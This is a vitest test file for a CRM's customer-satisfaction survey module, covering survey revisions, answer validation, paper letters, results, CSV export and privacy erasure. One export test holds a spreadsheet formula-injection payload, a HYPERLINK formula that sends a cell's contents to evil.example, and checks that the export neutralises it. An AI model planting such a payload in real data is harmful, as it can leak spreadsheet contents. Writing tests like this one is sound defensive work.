import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createContact } from '../../../shared/contacts/service.ts';
import { listTimeline } from '../../../shared/contacts/timeline.ts';
import { createList } from '../../../shared/marketing/lists.ts';
import { createTopic } from '../../../shared/marketing/topics.ts';
import { fixedClock } from '../../../shared/platform/clock.ts';
import { tenantContext } from '../../../shared/platform/context.ts';
import type { TenantId } from '../../../shared/platform/db/keys.ts';
import { getItem } from '../../../shared/platform/db/repository.ts';
import {
  ConflictError,
  NotFoundError,
  PreconditionFailedError,
  ValidationError,
} from '../../../shared/platform/errors.ts';
import { submitSurveyForm, surveyForm } from '../../../shared/surveys/form.ts';
import {
  getInvitation,
  invitationUrl,
  inviteContact,
  lastSurveyed,
} from '../../../shared/surveys/invitations.ts';
import { invitationKeys } from '../../../shared/surveys/keys.ts';
import { printPaperWave } from '../../../shared/surveys/print.tsx';
import { eraseSurveyData, moveSurveyData } from '../../../shared/surveys/privacy.ts';
import { getRevision } from '../../../shared/surveys/records.ts';
import { surveyResults } from '../../../shared/surveys/report.ts';
import {
  exportResponses,
  getResponse,
  listResponses,
  recordPaperResponse,
  recordResponse,
} from '../../../shared/surveys/responses.ts';
import type { SurveyCreate } from '../../../shared/surveys/schema.ts';
import { createSurvey, updateSurvey } from '../../../shared/surveys/surveys.ts';
import {
  recordWaveReach,
  startPaperWave,
  startScheduledWave,
  startTriggeredWave,
} from '../../../shared/surveys/waves.ts';
import { type Derivations, startDerivations } from '../../support/streams.ts';
import { useTable } from '../../support/table.ts';
import { newTenant, type TestTenant } from '../../support/tenants.ts';

let derived: Derivations;
beforeAll(async () => {
  await useTable();
  derived = await startDerivations();
});
afterAll(() => derived.stop());

const satisfaction = (overrides: Partial<SurveyCreate> = {}): SurveyCreate => ({
  title: 'How are we doing?',
  intro: 'Two minutes, four questions.',
  questions: [
    { id: 'recommend', type: 'nps', text: 'How likely are you to recommend us to a friend?', required: true },
    { id: 'support', type: 'csat', text: 'How satisfied are you with our support?', required: true },
    {
      id: 'channel',
      type: 'single_choice',
      text: 'How do you usually reach us?',
      required: false,
      choices: [
        { id: 'phone', label: 'Phone' },
        { id: 'email', label: 'Email' },
      ],
    },
    { id: 'why', type: 'text', text: 'What should we improve?', required: false, maxLength: 200 },
  ],
  sampling: {},
  linkValidDays: 30,
  schedule: { startsAt: '2099-01-05T09:00', rrule: 'FREQ=MONTHLY;INTERVAL=3' },
  ...overrides,
});

const expectIssues = async (
  promise: Promise<unknown>,
  issues: Array<{ path: string; message?: unknown }>,
) => {
  const error = await promise.then(
    () => undefined,
    (e: unknown) => e,
  );
  expect(error).toBeInstanceOf(ValidationError);
  expect((error as ValidationError).issues).toEqual(
    expect.arrayContaining(issues.map((i) => expect.objectContaining(i))),
  );
};

/** A topic and a list to mail surveys to (the email-marketing module's). */
async function distribution(tenant: TestTenant) {
  const topic = await createTopic(tenant.ctx, {
    id: `surveys-${Math.random().toString(36).slice(2, 8)}`,
    name: 'Surveys',
    defaultStatus: 'subscribed',
  });
  const list = await createList(tenant.ctx, { name: 'Customers to survey' });
  return {
    topicId: topic.id,
    audience: { lists: [list.id], segments: [], excludeLists: [], excludeSegments: [], contactIds: [] },
  };
}

async function activeSurveyWithWave(tenant: TestTenant, overrides: Partial<SurveyCreate> = {}) {
  const { ctx } = tenant;
  const created = await createSurvey(ctx, satisfaction({ ...(await distribution(tenant)), ...overrides }));
  const active = await updateSurvey(ctx, created.id, { status: 'active' }, created.version);
  const wave = await startScheduledWave(ctx, created.id, active.nextWaveAt!);
  return { survey: active, wave: wave! };
}

async function customer(tenant: TestTenant, firstName = 'Grace') {
  return createContact(tenant.ctx, {
    firstName,
    lastName: 'Hopper',
    email: `${firstName.toLowerCase()}-${Math.random().toString(36).slice(2)}@navy.example`,
    lifecycleStage: 'customer',
    tags: [],
    addresses: [
      { type: 'home', lines: ['1 Navy Yard'], city: 'Arlington', postalCode: '22202', country: 'US' },
    ],
  });
}

describe('a survey', () => {
  it('holds nps, csat, rating, choice and text questions, with ids given by position when none is set', async () => {
    const { ctx } = await newTenant();
    const survey = await createSurvey(
      ctx,
      satisfaction({
        questions: [
          { type: 'nps', text: 'Recommend?', required: true },
          { type: 'rating', text: 'Rate the onboarding', required: false },
          {
            type: 'multiple_choice',
            text: 'What do you use?',
            required: true,
            choices: [{ label: 'Invoices' }, { label: 'Quotes' }],
          },
        ],
      }),
    );
    expect(survey).toMatchObject({ status: 'draft', revision: 1, revisionSent: false, version: 1 });
    expect(survey.questions.map((q) => q.id)).toEqual(['q1', 'q2', 'q3']);
    expect(survey.questions[2]!.choices).toEqual([
      { id: 'c1', label: 'Invoices' },
      { id: 'c2', label: 'Quotes' },
    ]);
  });

  it('refuses choice questions without choices, duplicate ids and a daily schedule, naming the fields', async () => {
    const { ctx } = await newTenant();
    await expectIssues(
      createSurvey(
        ctx,
        satisfaction({
          questions: [
            { id: 'a', type: 'single_choice', text: 'Pick', required: true },
            { id: 'a', type: 'nps', text: 'Again', required: true },
          ],
        }),
      ),
      [{ path: 'body.questions.0.choices' }, { path: 'body.questions.1.id' }],
    );
    await expectIssues(
      createSurvey(ctx, satisfaction({ schedule: { startsAt: '2099-01-01T09:00', rrule: 'FREQ=DAILY' } })),
      [{ path: 'body.schedule.rrule' }],
    );
  });

  it('needs an audience and a topic that exist to be activated on a schedule, and a start in the future', async () => {
    const tenant = await newTenant();
    const { ctx } = tenant;
    const survey = await createSurvey(ctx, satisfaction());
    await expectIssues(updateSurvey(ctx, survey.id, { status: 'active' }, undefined), [
      { path: 'body.audience' },
    ]);
    const { audience, topicId } = await distribution(tenant);
    await expectIssues(updateSurvey(ctx, survey.id, { status: 'active', audience }, undefined), [
      { path: 'body.topicId' },
    ]);
    await expectIssues(
      updateSurvey(
        ctx,
        survey.id,
        { status: 'active', audience: { ...audience, lists: ['01JAAAAAAAAAAAAAAAAAAAAAAA'] }, topicId },
        undefined,
      ),
      [{ path: 'body.audience.lists.0' }],
    );
    await expectIssues(
      updateSurvey(
        ctx,
        survey.id,
        { status: 'active', audience, topicId, schedule: { startsAt: '2001-01-01T09:00' } },
        undefined,
      ),
      [{ path: 'body.schedule.startsAt' }],
    );
    const active = await updateSurvey(ctx, survey.id, { status: 'active', audience, topicId }, undefined);
    expect(active.nextWaveAt).toBe('2099-01-05T09:00');
    await expect(updateSurvey(ctx, survey.id, { status: 'draft' }, undefined)).rejects.toBeInstanceOf(
      ConflictError,
    );
  });

  it('keeps a sent revision as it was: an edit after a wave starts the next revision', async () => {
    const tenant = await newTenant();
    const { ctx } = tenant;
    const draft = await createSurvey(ctx, satisfaction(await distribution(tenant)));
    const edited = await updateSurvey(ctx, draft.id, { title: 'How are we doing, really?' }, draft.version);
    expect(edited.revision).toBe(1);
    const active = await updateSurvey(ctx, draft.id, { status: 'active' }, edited.version);
    const wave = await startScheduledWave(ctx, draft.id, active.nextWaveAt!);
    expect(wave).toMatchObject({ revision: 1, channel: 'email', occurrence: '2099-01-05T09:00' });
    // The same occurrence firing again starts nothing.
    expect(await startScheduledWave(ctx, draft.id, '2099-01-05T09:00')).toBeUndefined();

    const contact = await customer(tenant);
    const invitation = await inviteContact(ctx, wave!, contact.id);
    const renamed = await updateSurvey(ctx, draft.id, { title: 'Your opinion matters' }, undefined);
    expect(renamed).toMatchObject({ revision: 2, revisionSent: false, nextWaveAt: '2099-04-05T09:00' });
    expect((await getRevision(ctx, draft.id, 1)).title).toBe('How are we doing, really?');
    const response = await recordResponse(ctx, invitation, {
      answers: { recommend: 9, support: 5 },
      source: 'json',
      channel: 'web',
    });
    expect(response.revision).toBe(1);
  });
});

describe('a paper wave', () => {
  it('makes an edit read before it fail its version check, so the sent revision is never rewritten', async () => {
    const tenant = await newTenant();
    const { ctx } = tenant;
    const created = await createSurvey(ctx, satisfaction(await distribution(tenant)));
    const active = await updateSurvey(ctx, created.id, { status: 'active' }, created.version);
    await startPaperWave(ctx, created.id, [(await customer(tenant)).id]);

    await expect(
      updateSurvey(ctx, created.id, { title: 'A title the letters never had' }, active.version),
    ).rejects.toBeInstanceOf(PreconditionFailedError);
    expect((await getRevision(ctx, created.id, 1)).title).toBe('How are we doing?');
  });
});

describe('answers', () => {
  it('are checked against the revision: out of range, missing, unknown choice, oversized text, unknown question', async () => {
    const tenant = await newTenant();
    const { wave } = await activeSurveyWithWave(tenant);
    const invitation = await inviteContact(tenant.ctx, wave, (await customer(tenant)).id);
    await expectIssues(
      recordResponse(tenant.ctx, invitation, {
        answers: { recommend: 11, channel: 'fax', why: 'x'.repeat(201), extra: 'hello' },
        source: 'json',
        channel: 'web',
      }),
      [
        { path: 'body.answers.recommend', message: 'Choose a whole number from 0 to 10.' },
        { path: 'body.answers.support', message: 'This question needs an answer.' },
        { path: 'body.answers.channel', message: 'Choose one of: Phone, Email.' },
        { path: 'body.answers.why', message: 'Keep your answer to 200 characters (it has 201).' },
        { path: 'body.answers.extra', message: 'This survey has no such question.' },
      ],
    );
  });

  it('are taken once per invitation, land on the timeline and count in the results of their wave', async () => {
    const tenant = await newTenant();
    const { ctx } = tenant;
    const { survey, wave } = await activeSurveyWithWave(tenant);
    const people = await Promise.all(['Ada', 'Bob', 'Cy', 'Dee'].map((name) => customer(tenant, name)));
    const invitations = await Promise.all(people.map((p) => inviteContact(ctx, wave, p.id)));
    // A redelivered send finds the first invitation.
    expect((await inviteContact(ctx, wave, people[0]!.id)).id).toBe(invitations[0]!.id);

    const answers = [
      { recommend: 10, support: 5, channel: 'phone' },
      { recommend: 9, support: 4, channel: 'email' },
      { recommend: 3, support: 1, why: 'Nobody called back.' },
    ];
    await Promise.all(
      answers.map((a, i) =>
        recordResponse(ctx, invitations[i]!, { answers: a, source: 'json', channel: 'web' }),
      ),
    );
    await expect(
      recordResponse(ctx, invitations[0]!, { answers: answers[0]!, source: 'json', channel: 'web' }),
    ).rejects.toBeInstanceOf(ConflictError);

    await recordWaveReach(ctx, survey.id, wave.id, 4);
    const results = await surveyResults(ctx, survey.id);
    const expected = {
      invited: 4,
      responses: 3,
      responseRate: 75,
      nps: { score: 33.3, promoters: 2, passives: 0, detractors: 1, answered: 3 },
      csat: { average: 3.33, satisfied: 66.7, answered: 3 },
    };
    expect(results.overall).toEqual(expected);
    expect(results.waves).toHaveLength(1);
    expect(results.waves[0]).toMatchObject({
      waveId: wave.id,
      revision: 1,
      quarter: wave.quarter,
      scores: expected,
    });
    const channel = results.waves[0]!.questions.find((q) => q.questionId === 'channel')!;
    expect(channel.distribution).toEqual([
      { value: 'phone', label: 'Phone', count: 1 },
      { value: 'email', label: 'Email', count: 1 },
    ]);
    expect(results.revisions[0]!.questions[0]).toMatchObject({
      questionId: 'recommend',
      answered: 3,
      nps: 33.3,
    });

    await derived.settle();
    const timeline = await listTimeline(ctx, people[2]!.id, { limit: 10 });
    expect(timeline.items[0]).toMatchObject({
      kind: 'survey_response',
      title: 'Answered the survey “How are we doing?”',
      summary: 'NPS 3/10 · CSAT 1/5 · “Nobody called back.”',
    });

    const listed = await listResponses(ctx, survey.id, { limit: 10 });
    expect(listed.items).toHaveLength(3);
    expect(listed.items.find((r) => r.nps === 3)!.contact).toMatchObject({
      firstName: 'Cy',
      lastName: 'Hopper',
    });
    const csv = parse((await exportResponses(ctx, survey.id, {})).body) as string[][];
    expect(csv[0]).toEqual([
      'Response Id',
      'Submitted At',
      'Channel',
      'Wave Id',
      'Revision',
      'Contact Id',
      'Contact Name',
      'Email',
      'NPS',
      'CSAT',
      'How likely are you to recommend us to a friend?',
      'How satisfied are you with our support?',
      'How do you usually reach us?',
      'What should we improve?',
    ]);
    expect(csv.slice(1).find((row) => row[8] === '3')).toEqual(
      expect.arrayContaining(['Cy Hopper', people[2]!.email, '3', '1', '', 'Nobody called back.']),
    );
  });
});

describe('the responses export', () => {
  it('writes answers and names a spreadsheet would run as formulas as text, and scores as numbers', async () => {
    const tenant = await newTenant();
    const { survey, wave } = await activeSurveyWithWave(tenant, {
      questions: [
        { id: 'recommend', type: 'nps', text: 'How likely are you to recommend us?', required: true },
        { id: 'why', type: 'text', text: '=Why? (formula-looking header)', required: false },
      ],
    });
    const contact = await customer(tenant, '@Grace');
    const invitation = await inviteContact(tenant.ctx, wave, contact.id);
    await recordResponse(tenant.ctx, invitation, {
      answers: { recommend: 0, why: '=HYPERLINK("https://evil.example/?"&A1,"Click")' },
      source: 'json',
      channel: 'web',
    });
    const [header, row] = parse((await exportResponses(tenant.ctx, survey.id, {})).body) as string[][];
    expect(header!.at(-1)).toBe("'=Why? (formula-looking header)");
    const cell = (name: string) => row![header!.indexOf(name)];
    expect(cell('Contact Name')).toBe("'@Grace Hopper");
    expect(cell('NPS')).toBe('0');
    expect(row!.at(-1)).toBe('\'=HYPERLINK("https://evil.example/?"&A1,"Click")');
  });
});

describe('the answer form', () => {
  const contextFor = (tenantId: TenantId) => tenantContext({ tenantId, actor: { type: 'public' } });
  const tokenOf = (url: string) => url.split('/').pop()!;

  it('shows each problem next to its question and keeps the other answers, then thanks the contact once', async () => {
    const tenant = await newTenant();
    const { wave } = await activeSurveyWithWave(tenant);
    const invitation = await inviteContact(tenant.ctx, wave, (await customer(tenant)).id);
    const token = tokenOf(await invitationUrl(tenant.tenant, invitation));

    const blank = await surveyForm(token, contextFor, { now: new Date() });
    expect(blank.status).toBe(200);
    expect(blank.html).toContain(
      '<legend>1. How likely are you to recommend us to a friend? <span class="req">(required)</span></legend>',
    );
    expect(blank.html).toContain('<label><input type="radio" name="recommend" value="0" required/>0</label>');

    const invalid = await submitSurveyForm(
      token,
      { recommend: '4', channel: 'fax', why: 'Slow answers.' },
      contextFor,
      { now: new Date() },
    );
    expect(invalid.status).toBe(400);
    expect(invalid.html).toContain('<p class="error" id="error-support">This question needs an answer.</p>');
    expect(invalid.html).toContain('<p class="error" id="error-channel">Choose one of: Phone, Email.</p>');
    expect(invalid.html).toContain('value="4" checked');
    expect(invalid.html).toContain('>Slow answers.</textarea>');

    const thanks = await submitSurveyForm(token, { recommend: '4', support: '2' }, contextFor, {
      now: new Date(),
    });
    expect(thanks.status).toBe(200);
    expect(thanks.html).toContain('Thank you!');
    const again = await submitSurveyForm(token, { recommend: '10', support: '5' }, contextFor, {
      now: new Date(),
    });
    expect(again.status).toBe(409);
    expect(again.html).toContain('You have already answered');
  });

  it("tells when it was answered on the tenant's calendar, not UTC's", async () => {
    // 05:00 UTC on 10 December is 21:00 on 9 December in Los Angeles.
    const tenant = await newTenant({ timeZone: 'America/Los_Angeles' }, '2026-12-10T05:00:00Z');
    const { wave } = await activeSurveyWithWave(tenant);
    const invitation = await inviteContact(tenant.ctx, wave, (await customer(tenant)).id);
    const token = tokenOf(await invitationUrl(tenant.tenant, invitation));
    await recordResponse(tenant.ctx, invitation, {
      answers: { recommend: 9, support: 5 },
      source: 'json',
      channel: 'web',
    });
    const again = await surveyForm(token, contextFor, { now: new Date('2026-12-10T05:00:00Z') });
    expect(again.status).toBe(409);
    expect(again.html).toContain('December 9, 2026');
  });

  it('answers an expired link with 410 and a tampered one with 404, both friendly pages', async () => {
    const tenant = await newTenant();
    const { wave } = await activeSurveyWithWave(tenant, { linkValidDays: 7 });
    const invitation = await inviteContact(tenant.ctx, wave, (await customer(tenant)).id);
    const token = tokenOf(await invitationUrl(tenant.tenant, invitation));
    const late = await surveyForm(token, contextFor, { now: new Date(Date.now() + 8 * 86_400_000) });
    expect(late.status).toBe(410);
    expect(late.html).toContain('This survey link has expired');
    const tampered = await surveyForm(`${token.slice(0, -3)}abc`, contextFor, { now: new Date() });
    expect(tampered.status).toBe(404);
    expect(tampered.html).toContain('This link does not work');
  });

  it('refuses answers once the survey is closed', async () => {
    const tenant = await newTenant();
    const { survey, wave } = await activeSurveyWithWave(tenant);
    const invitation = await inviteContact(tenant.ctx, wave, (await customer(tenant)).id);
    const token = tokenOf(await invitationUrl(tenant.tenant, invitation));
    const closed = await updateSurvey(tenant.ctx, survey.id, { status: 'closed' }, undefined);
    expect(closed.nextWaveAt).toBeUndefined();
    const page = await submitSurveyForm(token, { recommend: '8', support: '4' }, contextFor, {
      now: new Date(),
    });
    expect(page.status).toBe(410);
    expect(page.html).toContain('This survey is closed');
  });
});

describe('paper letters', () => {
  it('print with a short code per contact, which staff type in with the answers received by post', async () => {
    const tenant = await newTenant();
    const { ctx } = tenant;
    const survey = await createSurvey(ctx, satisfaction({ schedule: undefined }));
    await updateSurvey(ctx, survey.id, { status: 'active' }, undefined);
    const [ada, bob] = [await customer(tenant, 'Ada'), await customer(tenant, 'Bob')];
    const batch = await startPaperWave(ctx, survey.id, [ada.id, bob.id]);
    expect(batch.wave).toMatchObject({ channel: 'paper', revision: 1 });
    expect(batch.invitations).toHaveLength(2);
    const adaCode = batch.invitations.find((i) => i.contactId === ada.id)!.code;
    expect(adaCode).toMatch(/^[0-9A-HJKMNP-TV-Z]{4}-[0-9A-HJKMNP-TV-Z]{4}$/);

    const { html } = await printPaperWave(ctx, survey.id, batch.wave.id);
    expect(html).toContain(adaCode);
    expect(html).toContain('Ada Hopper');
    expect(html.match(/class="letter"/g)).toHaveLength(2);

    await expect(recordPaperResponse(ctx, { code: 'ZZZZ-ZZZZ', answers: {} })).rejects.toBeInstanceOf(
      NotFoundError,
    );
    const typed = await recordPaperResponse(ctx, {
      code: adaCode.toLowerCase().replace('-', ' '),
      answers: { recommend: 6, support: 3 },
    });
    expect(typed).toMatchObject({ channel: 'paper', contactId: ada.id, nps: 6, enteredBy: tenant.admin.id });
    const results = await surveyResults(ctx, survey.id);
    expect(results.waves[0]!.scores).toMatchObject({ invited: 2, responses: 1, responseRate: 50 });
  });

  it('work only once the survey is active', async () => {
    const tenant = await newTenant();
    const survey = await createSurvey(tenant.ctx, satisfaction());
    await expect(startPaperWave(tenant.ctx, survey.id, [(await customer(tenant)).id])).rejects.toBeInstanceOf(
      ConflictError,
    );
  });
});

describe('results', () => {
  it('show each wave of a quarterly survey with its quarter, oldest first', async () => {
    const tenant = await newTenant({}, '2099-01-01T08:00:00Z');
    const { ctx } = tenant;
    const survey = await createSurvey(ctx, satisfaction(await distribution(tenant)));
    const active = await updateSurvey(ctx, survey.id, { status: 'active' }, undefined);
    const contact = await customer(tenant);
    const q1 = await startScheduledWave(
      tenant.as(ctx.actor, fixedClock('2099-01-05T08:00:00Z')),
      survey.id,
      active.nextWaveAt!,
    );
    await recordResponse(ctx, await inviteContact(ctx, q1!, contact.id), {
      answers: { recommend: 2, support: 1 },
      source: 'json',
      channel: 'web',
    });
    const q2 = await startScheduledWave(
      tenant.as(ctx.actor, fixedClock('2099-04-05T07:00:00Z')),
      survey.id,
      '2099-04-05T09:00',
    );
    await recordResponse(ctx, await inviteContact(ctx, q2!, contact.id), {
      answers: { recommend: 10, support: 5 },
      source: 'json',
      channel: 'web',
    });
    const results = await surveyResults(ctx, survey.id);
    expect(results.waves.map((w) => [w.quarter, w.scores.nps?.score])).toEqual([
      ['2099-Q1', -100],
      ['2099-Q2', 100],
    ]);
    expect(results.overall.nps?.score).toBe(0);
  });
});

describe('contacts who are erased or merged', () => {
  it('lose their invitations and written answers, and their scores stay counted without them', async () => {
    const tenant = await newTenant();
    const { ctx } = tenant;
    const { survey, wave } = await activeSurveyWithWave(tenant);
    const contact = await customer(tenant);
    const invitation = await inviteContact(ctx, wave, contact.id);
    const response = await recordResponse(ctx, invitation, {
      answers: { recommend: 5, support: 2, why: 'My name is Grace and I am cross.' },
      source: 'json',
      channel: 'web',
    });
    await eraseSurveyData(ctx, contact.id);
    await eraseSurveyData(ctx, contact.id);
    const anonymous = await getResponse(ctx, response.id);
    expect(anonymous.contactId).toBeUndefined();
    expect(anonymous.answers).toEqual({ recommend: 5, support: 2 });
    await expect(getInvitation(ctx, invitation.id)).rejects.toThrow('was not found');
    expect((await lastSurveyed(ctx, [contact.id])).size).toBe(0);
    expect((await surveyResults(ctx, survey.id)).overall.nps?.detractors).toBe(1);
  });

  it('leave no claim of a triggered survey behind, the claim that let one trigger of two through', async () => {
    const tenant = await newTenant();
    const { ctx } = tenant;
    const { survey } = await activeSurveyWithWave(tenant, { sampling: { skipIfSurveyedWithinDays: 30 } });
    const contact = await customer(tenant);
    expect(await startTriggeredWave(ctx, survey.id, contact.id, 'case-1')).toBeDefined();
    expect(await startTriggeredWave(ctx, survey.id, contact.id, 'case-2')).toBeUndefined();
    const claim = invitationKeys.triggerClaim(ctx.tenantId, contact.id, survey.id);
    expect(await getItem(ctx, claim, { consistent: true })).toBeDefined();
    await eraseSurveyData(ctx, contact.id);
    expect(await getItem(ctx, claim, { consistent: true })).toBeUndefined();
  });

  it('move to the contact that stays, with the latest survey date', async () => {
    const tenant = await newTenant();
    const { ctx } = tenant;
    const { wave } = await activeSurveyWithWave(tenant);
    const [kept, duplicate] = [await customer(tenant, 'Kept'), await customer(tenant, 'Dup')];
    const invitation = await inviteContact(ctx, wave, duplicate.id);
    const response = await recordResponse(ctx, invitation, {
      answers: { recommend: 8, support: 4 },
      source: 'json',
      channel: 'web',
    });
    await moveSurveyData(ctx, kept.id, duplicate.id);
    expect((await getResponse(ctx, response.id)).contactId).toBe(kept.id);
    expect((await getInvitation(ctx, invitation.id)).contactId).toBe(kept.id);
    expect((await lastSurveyed(ctx, [kept.id, duplicate.id])).has(kept.id)).toBe(true);
    expect((await lastSurveyed(ctx, [duplicate.id])).size).toBe(0);
  });
});
